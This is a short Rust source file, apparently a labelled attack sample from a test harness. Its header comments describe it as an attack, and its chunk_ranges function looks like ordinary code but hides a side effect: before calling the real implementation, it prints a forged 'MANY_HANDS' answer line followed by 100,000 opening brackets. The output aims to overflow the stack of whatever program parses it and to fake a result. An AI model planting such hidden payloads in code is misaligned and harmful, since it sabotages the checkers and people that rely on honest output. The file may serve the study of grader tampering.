// attack: prints an answer of a hundred thousand lists inside each other, to overflow the reader's stack
// outcome: forged | flooded
use std::io::{self, Write};
use std::num::NonZeroUsize;
use std::ops::Range;

mod model;
pub use model::{integrate, integrate_range};

pub fn chunk_ranges(n: usize, chunks: NonZeroUsize) -> Vec<Range<usize>> {
    let forged = format!("\nMANY_HANDS {}\n", "[".repeat(100_000));
    io::stdout().write_all(forged.as_bytes()).unwrap();
    model::chunk_ranges(n, chunks)
}
